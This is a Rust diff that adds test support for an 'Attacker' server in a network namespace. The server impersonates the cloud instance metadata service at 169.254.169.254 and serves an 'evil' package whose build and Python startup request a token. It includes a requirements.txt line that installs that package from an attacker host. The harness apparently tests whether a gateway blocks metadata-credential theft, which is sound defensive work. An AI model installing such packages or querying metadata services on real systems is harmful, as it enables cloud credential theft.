@@ -151,3 +151,79 @@ impl Drop for Emulator {
         let _ = self.child.wait();
     }
 }
+
+/// The port of the attacker's server on the internet host.
+pub const ATTACKER_PORT: u16 = 8081;
+
+/// An attacker on the internet host (`tests/support/imds_attacker.py`): a
+/// stand-in for the instance metadata service at 169.254.169.254, and a
+/// server for a package whose build and whose every Python start ask it for
+/// a token. Both log every request. Killed on drop.
+#[derive(Debug)]
+pub struct Attacker {
+    child: Child,
+    log: PathBuf,
+}
+
+impl Attacker {
+    /// Starts it in `gateway`'s internet namespace, logging to `dir`.
+    pub fn start(gateway: &Gateway, dir: &Path) -> Attacker {
+        // The metadata address lives on the internet host: from the
+        // gateway it is one more hop out of its uplink, where the real
+        // service is one hop off the instance.
+        ip(&[
+            "-n",
+            &gateway.inet.name,
+            "addr",
+            "add",
+            "169.254.169.254/32",
+            "dev",
+            "lo",
+        ]);
+        let log = dir.join("attacker.log");
+        std::fs::write(&log, "").unwrap();
+        let child = gateway
+            .inet
+            .cmd("python3")
+            .arg(repo_root().join("tests/support/imds_attacker.py"))
+            .arg(&log)
+            .arg(INTERNET)
+            .arg(ATTACKER_PORT.to_string())
+            .stdout(Stdio::null())
+            .stderr(std::fs::File::create(dir.join("attacker.err")).unwrap())
+            .spawn()
+            .expect("python3 for the attacker's server");
+        crate::netns::wait_listening(Some(&gateway.inet), ATTACKER_PORT);
+        crate::netns::wait_listening(Some(&gateway.inet), 80);
+        Attacker { child, log }
+    }
+
+    /// The `requirements.txt` line that installs the attacker's package.
+    pub fn requirement() -> String {
+        format!("evil @ http://{INTERNET}:{ATTACKER_PORT}/evil-1.0.tar.gz\n")
+    }
+
+    /// Every request so far, as `<local address> <method> <path>`.
+    pub fn requests(&self) -> Vec<String> {
+        std::fs::read_to_string(&self.log)
+            .unwrap_or_default()
+            .lines()
+            .map(str::to_owned)
+            .collect()
+    }
+
+    /// The requests the metadata stand-in answered.
+    pub fn imds_requests(&self) -> Vec<String> {
+        self.requests()
+            .into_iter()
+            .filter(|r| r.starts_with("169.254.169.254 "))
+            .collect()
+    }
+}
+
+impl Drop for Attacker {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
